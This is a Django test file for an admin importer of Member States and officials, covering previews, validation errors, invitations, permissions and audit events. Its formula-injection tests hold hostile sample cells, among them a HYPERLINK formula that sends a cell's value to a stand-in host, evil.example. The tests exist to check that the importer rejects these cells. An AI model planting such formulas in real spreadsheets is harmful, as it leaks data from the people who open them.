"""Importing Member States and officials from the admin: a preview that writes nothing, every
bad row reported, and nothing written (nobody invited) until TSB confirms."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
from typing import Any

import openpyxl
import pytest
from allauth.account.models import EmailAddress
from django.apps import apps
from django.contrib import admin
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import AccountEvent, MemberState, MemberStateEvent, Official, User
from accounts.resources import formula_cell_error
from tests import factories

pytestmark = pytest.mark.django_db

OFFICIAL_COLUMNS = "email,first_name,last_name,member_state,role,official_title,language"
STATE_COLUMNS = "alpha2,alpha3,name,region,joined_on,left_on"


def url(model: type, step: str) -> str:
    return reverse(f"admin:accounts_{model._meta.model_name}_{step}")


def fmt(model: type, extension: str) -> str:
    formats = admin.site._registry[model].get_import_formats()
    return str([f().get_extension() for f in formats].index(extension))


def upload(client, model: type, content: bytes, extension: str = "csv") -> Any:
    return client.post(
        url(model, "import"),
        {
            "resource": "0",
            "format": fmt(model, extension),
            "import_file": SimpleUploadedFile(f"upload.{extension}", content),
        },
    )


def confirm(client, model: type, preview: Any) -> Any:
    form = preview.context["confirm_form"]
    return client.post(url(model, "process_import"), {**form.initial, "confirm": "Confirm import"})


def database() -> str:
    """A digest of every row of every table that an import could touch."""
    digest = hashlib.sha256()
    for label in (
        "accounts.user",
        "accounts.memberstate",
        "accounts.official",
        "accounts.accountevent",
        "accounts.memberstateevent",
        "account.emailaddress",
        "admin.logentry",
    ):
        model = apps.get_model(label)
        digest.update(repr(list(model.objects.order_by("pk").values_list())).encode())
    return digest.hexdigest()


@pytest.fixture
def importer(client, signed_in, tsb_staff, portal_url):
    signed_in(client, tsb_staff)
    return tsb_staff


@pytest.fixture
def states(db) -> None:
    factories.MemberStateFactory(alpha2="CH", alpha3="CHE", name="Switzerland")
    factories.MemberStateFactory(alpha2="BR", alpha3="BRA", name="Brazil", region="A")


# --- officials ----------------------------------------------------------------------------


def officials_csv(*rows: str, header: str = OFFICIAL_COLUMNS) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


GOOD_OFFICIALS = officials_csv(
    "Anna.Muster@admin.ch,Anna,Muster,CHE,signatory,Directrice des affaires internationales,fr",
    "joao@anatel.example,João,Silva,bra,drafter,Assessor,",
)


def test_officials_preview_writes_nothing_then_confirm_creates_and_invites(
    client, importer, states, mailoutbox, django_capture_on_commit_callbacks
) -> None:
    before = database()
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        preview = upload(client, Official, GOOD_OFFICIALS)
    assert preview.status_code == 200
    page = preview.content.decode()
    assert "Preview" in page and "Confirm import" in page
    assert "anna.muster@admin.ch" in page and "joao@anatel.example" in page
    result = preview.context["result"]
    assert [row.import_type for row in result.valid_rows()] == ["new", "new"]
    assert database() == before
    assert callbacks == [] and mailoutbox == []

    with django_capture_on_commit_callbacks(execute=True):
        done = confirm(client, Official, preview)
    assert done.status_code == 302
    assert done.url == url(Official, "changelist")
    anna = Official.objects.select_related("user", "member_state").get(
        user__email="anna.muster@admin.ch"
    )
    assert (anna.member_state.alpha3, anna.role, anna.granted_by) == ("CHE", "signatory", importer)
    assert (anna.user.first_name, anna.user.language) == ("Anna", "fr")
    assert not anna.user.has_usable_password()  # only the invitation lets them in
    joao = Official.objects.get(user__email="joao@anatel.example")
    assert (joao.member_state.alpha3, joao.role, joao.user.language) == ("BRA", "drafter", "en")
    assert sorted(m.to[0] for m in mailoutbox) == ["anna.muster@admin.ch", "joao@anatel.example"]
    assert all("https://consult.example.int/" in m.body for m in mailoutbox)
    events = AccountEvent.objects.filter(kind__in=["created", "invited"], actor=importer)
    assert events.count() == 4
    # A second click on "Confirm import" imports nothing twice.
    before = database()
    with django_capture_on_commit_callbacks(execute=True):
        again = confirm(client, Official, preview)
    assert again.status_code == 302 and again.url == url(Official, "import")
    assert database() == before and len(mailoutbox) == 2


@pytest.mark.parametrize(
    ("content", "messages"),
    [
        pytest.param(
            officials_csv(
                "a@example.org,A,B,CHE,signatory,,",
                header="e-mail,first_name,last_name,member_state,role,official_title,language",
            ),
            ["missing columns: email", "unknown columns: e-mail"],
            id="wrong-columns",
        ),
        pytest.param(
            officials_csv("a@example.org,A,B,ZZZ,signatory,,", "b@example.org,B,C,CHE,chief,,xx"),
            [
                "Unknown country: no Member State has the code ZZZ.",
                "The role must be one of: signatory, drafter.",
                "The language must be one of: ar, zh-hans, en, fr, ru, es.",
            ],
            id="unknown-country-role-language",
        ),
        pytest.param(
            officials_csv(
                "secretary@itu.example,S,T,CHE,signatory,,",
                "new@example.org,N,O,CHE,signatory,,",
                "NEW@example.org,N,P,BRA,drafter,,",
                "not-an-address,X,Y,CHE,drafter,,",
            ),
            [
                "A user with the e-mail address secretary@itu.example already exists.",
                "new@example.org is also in row 2 of the file.",
                "not-an-address is not an e-mail address.",
            ],
            id="duplicate-email",
        ),
        pytest.param(
            "email,first_name,last_name,member_state,role\nf@example.org,François,Léger,CHE,signatory\n".encode(
                "latin-1"
            ),
            ["The file is not in UTF-8."],
            id="wrong-encoding",
        ),
        pytest.param(b"email,first_name\n", ["No valid data to import"], id="no-rows"),
    ],
)
def test_a_bad_officials_file_is_reported_and_changes_nothing(
    client, importer, states, mailoutbox, django_capture_on_commit_callbacks, content, messages
) -> None:
    before = database()
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client, Official, content)
    assert response.status_code == 200
    page = response.content.decode()
    for message in messages:
        assert message in page, page
    assert "confirm_form" not in response.context or not response.context["confirm_form"]
    assert "Confirm import" not in page
    assert database() == before
    assert mailoutbox == []


def test_a_row_refused_on_confirmation_rolls_back_the_whole_import(
    client, importer, states, mailoutbox, django_capture_on_commit_callbacks
) -> None:
    preview = upload(client, Official, GOOD_OFFICIALS)
    assert preview.context["confirm_form"]
    # Between the preview and the confirmation, someone else got the second address.
    factories.UserFactory(email="joao@anatel.example")
    before = database()
    with django_capture_on_commit_callbacks(execute=True):
        response = confirm(client, Official, preview)
    assert response.status_code == 200
    page = response.content.decode()
    assert "Nothing was imported" in page
    assert "A user with the e-mail address joao@anatel.example already exists." in page
    assert database() == before
    assert not User.objects.filter(email="anna.muster@admin.ch").exists()
    assert mailoutbox == []


def test_officials_from_an_xlsx_file(
    client, importer, states, mailoutbox, django_capture_on_commit_callbacks
) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(OFFICIAL_COLUMNS.split(","))
    sheet.append(["  li.wei@example.cn ", "Wei", "Li", "CHE", "Drafter", None, "zh-hans"])
    content = io.BytesIO()
    book.save(content)
    preview = upload(client, Official, content.getvalue(), "xlsx")
    assert preview.context["confirm_form"], preview.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        confirm(client, Official, preview)
    official = Official.objects.get(user__email="li.wei@example.cn")
    assert (official.role, official.user.language, official.official_title) == (
        "drafter",
        "zh-hans",
        "",
    )
    assert EmailAddress.objects.get(email="li.wei@example.cn").verified is False
    assert [m.to for m in mailoutbox] == [["li.wei@example.cn"]]


# --- Member States ---------------------------------------------------------------------------


def states_csv(*rows: str, header: str = STATE_COLUMNS) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def test_member_states_preview_then_confirm(client, importer, states) -> None:
    content = states_csv(
        "CH,CHE,Switzerland,B,,",  # unchanged: skipped
        "BR,BRA,Brazil,A,1947-01-01,",  # updated
        "PW,PLW,Palau,E,2024-09-19,",  # new
    )
    before = database()
    preview = upload(client, MemberState, content)
    page = preview.content.decode()
    assert "Preview" in page and "Palau" in page
    types = [row.import_type for row in preview.context["result"].valid_rows()]
    assert types == ["skip", "update", "new"]
    assert database() == before
    done = confirm(client, MemberState, preview)
    assert done.status_code == 302
    palau = MemberState.objects.get(alpha3="PLW")
    assert (palau.alpha2, palau.name, palau.region, palau.joined_on) == (
        "PW",
        "Palau",
        "E",
        datetime.date(2024, 9, 19),
    )
    assert MemberState.objects.get(alpha3="BRA").joined_on == datetime.date(1947, 1, 1)


def test_member_states_from_xlsx_with_date_cells(client, importer, states) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(STATE_COLUMNS.split(","))
    sheet.append(["ss", "ssd", "South Sudan", "d", datetime.datetime(2011, 7, 14), None])
    content = io.BytesIO()
    book.save(content)
    preview = upload(client, MemberState, content.getvalue(), "xlsx")
    assert preview.context["confirm_form"], preview.content.decode()
    confirm(client, MemberState, preview)
    state = MemberState.objects.get(alpha3="SSD")
    assert (state.alpha2, state.region, state.joined_on) == ("SS", "D", datetime.date(2011, 7, 14))


@pytest.mark.parametrize(
    ("content", "messages"),
    [
        pytest.param(
            states_csv("CH,CHE,Switzerland,B,", header="alpha2,alpha3,itu_name,region,joined_on"),
            ["missing columns: name, left_on", "unknown columns: itu_name"],
            id="wrong-columns",
        ),
        pytest.param(
            states_csv(
                "QQ,QQQ,Nowhere,B,,",
                "FR,FRA,France,F,,",
                "DE,DEU,Germany,B,19-01-2020,",
                "IT,ITA,Italy,B,2020-01-02,2020-01-01",
                "ES,ESP,Brazil,B,,",
                "PT,PRT,Portugal,B,,",
                "PT,PRX,Portugal bis,B,,",
            ),
            [
                "Unknown country: QQ is not an ISO 3166-1 alpha-2 code.",
                "The ITU region must be one of A, B, C, D, E.",
                "19-01-2020 is not a date (YYYY-MM-DD).",
                "left_on (the first day no longer a member) must come after joined_on.",
                "Member State with this Short name already exists.",
                "PT is also in row 6 of the file.",
            ],
            id="bad-rows",
        ),
        pytest.param(
            states_csv("CH,CHE,Switzerland,B,,,", "BR,BRA,Brazil,A"),
            ["Some rows have more or fewer cells than the first row"],
            id="ragged-rows",
        ),
        pytest.param(
            "alpha2,alpha3,name,region,joined_on,left_on\nCI,CIV,Côte d'Ivoire,D,,\n".encode(
                "cp1252"
            ),
            ["The file is not in UTF-8."],
            id="wrong-encoding",
        ),
    ],
)
def test_a_bad_member_states_file_is_reported_and_changes_nothing(
    client, importer, states, content, messages
) -> None:
    before = database()
    response = upload(client, MemberState, content)
    page = response.content.decode()
    for message in messages:
        assert message in page, page
    assert "Confirm import" not in page
    assert database() == before


def test_importing_needs_the_add_permission(client, signed_in, states) -> None:
    clerk = factories.UserFactory(email="clerk@itu.example", is_staff=True)
    clerk.user_permissions.set(
        Permission.objects.filter(content_type__app_label="accounts").exclude(
            codename__in=["add_official", "add_memberstate"]
        )
    )
    signed_in(client, clerk)
    before = database()
    for model, content in ((Official, GOOD_OFFICIALS), (MemberState, states_csv())):
        assert client.get(url(model, "import")).status_code == 403
        assert upload(client, model, content).status_code == 403
        assert client.get(url(model, "process_import")).status_code == 403
        assert client.post(url(model, "process_import"), {}).status_code == 403
        page = client.get(url(model, "changelist")).content.decode()
        assert url(model, "import") not in page
    assert database() == before


# --- codes, formulas, addresses: every refusal says why ------------------------------------


def refused(response: Any) -> str:
    """The page of an import refused as a whole: row errors shown, nothing to confirm."""
    assert response.status_code == 200
    page = response.content.decode()
    assert response.context["result"].has_validation_errors(), page
    assert not response.context.get("confirm_form")
    assert "Confirm import" not in page
    return page


def test_officials_take_alpha2_or_alpha3_codes_in_any_case_and_say_which(
    client, importer, states, django_capture_on_commit_callbacks
) -> None:
    factories.MemberStateFactory(alpha2="CN", alpha3="CHN", name="China", region="C")
    content = officials_csv(
        "li.wei@example.cn,Wei,Li,cn,drafter,,zh-hans",
        "anna@admin.ch,Anna,Muster,CH,signatory,,",
        "joao@anatel.example,João,Silva,bra,drafter,,",
    )
    preview = upload(client, Official, content)
    page = preview.content.decode()
    assert preview.context["confirm_form"], page
    assert "cn read as alpha-2: China" in page
    assert "CH read as alpha-2: Switzerland" in page
    assert "bra read as alpha-3: Brazil" in page
    with django_capture_on_commit_callbacks(execute=True):
        confirm(client, Official, preview)
    states_by_email = dict(Official.objects.values_list("user__email", "member_state__alpha3"))
    assert states_by_email == {
        "li.wei@example.cn": "CHN",
        "anna@admin.ch": "CHE",
        "joao@anatel.example": "BRA",
    }


def test_an_unknown_or_malformed_code_is_refused(client, importer, states) -> None:
    before = database()
    page = refused(
        upload(
            client,
            Official,
            officials_csv("a@example.org,A,B,CN,signatory,,", "b@example.org,B,C,,drafter,,"),
        )
    )
    assert "Unknown country: no Member State has the code CN." in page
    assert "The Member State (ISO alpha-2 or alpha-3 code) is required." in page
    assert database() == before


def test_member_states_rows_may_name_a_known_state_by_alpha2_only(client, importer, states) -> None:
    content = states_csv("br,,Brazil,A,1947-01-01,", "PW,PLW,Palau,E,2024-09-19,")
    preview = upload(client, MemberState, content)
    page = preview.content.decode()
    assert preview.context["confirm_form"], page
    assert "Row 1: br read as alpha-2: Brazil" in page
    types = [row.import_type for row in preview.context["result"].valid_rows()]
    assert types == ["update", "new"]
    done = confirm(client, MemberState, preview)
    assert done.status_code == 302
    brazil = MemberState.objects.get(alpha2="BR")
    assert (brazil.alpha3, brazil.joined_on) == ("BRA", datetime.date(1947, 1, 1))
    assert MemberState.objects.filter(alpha3="PLW").exists()
    # The audit of a Member States import: the admin's log, one entry per written row.
    entries = LogEntry.objects.filter(content_type__model="memberstate")
    assert sorted((e.object_repr, e.user_id) for e in entries) == [
        ("Brazil", importer.pk),
        ("Palau", importer.pk),
    ]


def test_a_new_member_state_needs_both_codes(client, importer, states) -> None:
    before = database()
    page = refused(upload(client, MemberState, states_csv("PW,,Palau,E,,")))
    assert "is not an ISO 3166-1 alpha-3 code (three letters)." in page
    assert database() == before


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("cells", "column", "start"),
    [
        ({"email": "=cmd@evil.example"}, "email", "="),
        ({"first_name": HYPERLINK}, "first_name", "="),
        ({"last_name": "+SUM(1,2)"}, "last_name", "+"),
        ({"official_title": "-2+3"}, "official_title", "-"),
        ({"official_title": "@SUM(A1)"}, "official_title", "@"),
        ({"last_name": "\t=1+1"}, "last_name", "TAB"),
        ({"first_name": "\rAnna"}, "first_name", "CR"),
        ({"member_state": "=CHE"}, "member_state", "="),
        ({"role": "-signatory"}, "role", "-"),
        ({"language": "+fr"}, "language", "+"),
    ],
)
def test_officials_refuse_a_cell_that_looks_like_a_formula(
    client, importer, states, mailoutbox, cells, column, start
) -> None:
    good = {
        "email": "anna@admin.ch",
        "first_name": "Anna",
        "last_name": "Muster",
        "member_state": "CHE",
        "role": "signatory",
        "official_title": "Director",
        "language": "fr",
    }
    columns = OFFICIAL_COLUMNS.split(",")
    row = [{**good, **cells}[c] for c in columns]
    before = database()
    if start in ("TAB", "CR"):
        # XLSX keeps a leading CR, which reading a CSV turns into a new line.
        book = openpyxl.Workbook()
        book.active.append(columns)
        book.active.append(row)
        content = io.BytesIO()
        book.save(content)
        response = upload(client, Official, content.getvalue(), "xlsx")
    else:
        # CSV: XLSX would store "=..." as a formula, which the import reads as its value.
        text = io.StringIO()
        csv.writer(text).writerows([columns, row])
        response = upload(client, Official, text.getvalue().encode())
    page = refused(response)
    assert (
        f"The {column} cell starts with {start}, which a spreadsheet reads as a formula: "
        "a cell may not begin with = + - @, TAB or CR."
    ) in page, page
    [invalid] = response.context["result"].invalid_rows
    assert list(invalid.error_dict) == [column]
    assert database() == before and mailoutbox == []


@pytest.mark.parametrize(
    ("row", "column"),
    [
        ("CH,CHE,=Switzerland,B,,", "name"),
        ("CH,CHE,Switzerland,B,,,@note", "note"),
        ("CH,CHE,Switzerland,B,,,+41 22 730 51 11", "note"),  # no phone column here
        ("=C,CHE,Switzerland,B,,", "alpha2"),
        ("CH,-CH,Switzerland,B,,", "alpha3"),
        ("CH,CHE,Switzerland,=B,,", "region"),
        ("CH,CHE,Switzerland,B,-2020-01-01,", "joined_on"),
    ],
)
def test_member_states_refuse_a_cell_that_looks_like_a_formula(
    client, importer, states, row, column
) -> None:
    before = database()
    response = upload(client, MemberState, states_csv(row, header=STATE_COLUMNS + ",note"))
    page = refused(response)
    assert f"The {column} cell starts with " in page, page
    assert "which a spreadsheet reads as a formula" in page
    [invalid] = response.context["result"].invalid_rows
    assert column in invalid.error_dict
    assert database() == before


def test_a_plus_and_a_digit_is_allowed_in_a_phone_column_only() -> None:
    assert formula_cell_error("fax", "+41 22 730 51 11", phone=True) is None
    assert formula_cell_error("fax", "+41 22 730 51 11") is not None
    assert formula_cell_error("fax", "+SUM(A1)", phone=True) is not None
    assert formula_cell_error("fax", "=41", phone=True) is not None
    assert formula_cell_error("fax", "-41", phone=True) is not None
    assert formula_cell_error("name", "Anna") is None
    assert formula_cell_error("joined_on", datetime.date(2020, 1, 1)) is None


@pytest.mark.parametrize(
    "address", ["anna@", "anna.admin.ch", "anna@admin", "anna muster@admin.ch", "a@b@admin.ch"]
)
def test_officials_refuse_an_address_that_is_not_one(client, importer, states, address) -> None:
    before = database()
    response = upload(client, Official, officials_csv(f"{address},Anna,Muster,CHE,signatory,,"))
    page = refused(response)
    assert "is not an e-mail address." in page, page
    [invalid] = response.context["result"].invalid_rows
    assert list(invalid.error_dict) == ["email"]
    assert database() == before


def test_one_bad_row_refuses_the_whole_file_and_says_why(
    client, importer, states, mailoutbox, django_capture_on_commit_callbacks
) -> None:
    content = officials_csv(
        "anna@admin.ch,Anna,Muster,CHE,signatory,,",
        "joao@anatel.example,=1+1,Silva,BRA,drafter,,",
        "li.wei@example.cn,Wei,Li,CH,drafter,,",
    )
    before = database()
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client, Official, content)
    page = refused(response)
    assert "Nothing was imported" in page
    assert "The first_name cell starts with =" in page
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [2]
    assert database() == before and mailoutbox == []
    # A confirmation forged from the refused preview writes nothing either.
    with django_capture_on_commit_callbacks(execute=True):
        again = client.post(
            url(Official, "process_import"),
            {
                "import_file_name": "missing.csv",
                "original_file_name": "upload.csv",
                "format": fmt(Official, "csv"),
                "resource": "0",
            },
        )
    assert again.status_code in (200, 302)
    assert database() == before and mailoutbox == []


def test_confirming_records_one_created_event_per_official_with_the_importer(
    client, importer, states, django_capture_on_commit_callbacks
) -> None:
    preview = upload(client, Official, GOOD_OFFICIALS)
    with django_capture_on_commit_callbacks(execute=True):
        confirm(client, Official, preview)
    created = AccountEvent.objects.filter(kind=AccountEvent.Kind.CREATED).order_by("pk")
    assert [(e.subject.email, e.actor, e.ip_address) for e in created] == [
        ("anna.muster@admin.ch", importer, "127.0.0.1"),
        ("joao@anatel.example", importer, "127.0.0.1"),
    ]
    assert [e.detail for e in created] == [
        {"member_state": "CHE", "role": "signatory"},
        {"member_state": "BRA", "role": "drafter"},
    ]


def test_confirming_records_one_event_per_state_written_with_the_importer(
    client, importer, states
) -> None:
    content = states_csv(
        "CH,CHE,Switzerland,B,,",  # unchanged: skipped, no event
        "BR,BRA,Brazil,A,1947-01-01,",  # updated
        "PW,PLW,Palau,E,2024-09-19,",  # new
    )
    preview = upload(client, MemberState, content)
    assert not MemberStateEvent.objects.exists()
    confirm(client, MemberState, preview)
    events = MemberStateEvent.objects.select_related("member_state").order_by("pk")
    assert [(e.member_state.alpha3, e.kind, e.actor, e.ip_address) for e in events] == [
        ("BRA", "updated", importer, "127.0.0.1"),
        ("PLW", "created", importer, "127.0.0.1"),
    ]
    brazil, palau = events
    assert brazil.detail == {
        "source": "import",
        "changes": {"joined_on": {"old": None, "new": "1947-01-01"}},
    }
    assert palau.detail["source"] == "import"
    assert palau.detail["changes"] == {
        "alpha2": {"old": None, "new": "PW"},
        "alpha3": {"old": None, "new": "PLW"},
        "name_en": {"old": None, "new": "Palau"},
        "region": {"old": None, "new": "E"},
        "joined_on": {"old": None, "new": "2024-09-19"},
    }
    assert MemberState.objects.get(alpha3="CHE").events.count() == 0


def test_member_state_events_are_shown_read_only(client, importer, states) -> None:
    preview = upload(client, MemberState, states_csv("BR,BRA,Brazil,A,1947-01-01,"))
    confirm(client, MemberState, preview)
    event = MemberStateEvent.objects.get()
    brazil = MemberState.objects.get(alpha3="BRA")
    page = client.get(reverse("admin:accounts_memberstate_change", args=[brazil.pk]))
    assert "1947-01-01" in page.content.decode()
    assert client.get(url(MemberStateEvent, "changelist") + "?kind=updated").status_code == 200
    assert client.get(url(MemberStateEvent, "add")).status_code == 403
    change = reverse("admin:accounts_memberstateevent_change", args=[event.pk])
    assert client.post(change, {"kind": "created"}).status_code == 403
    delete = reverse("admin:accounts_memberstateevent_delete", args=[event.pk])
    assert client.post(delete, {"post": "yes"}).status_code == 403
    assert MemberStateEvent.objects.get().kind == "updated"
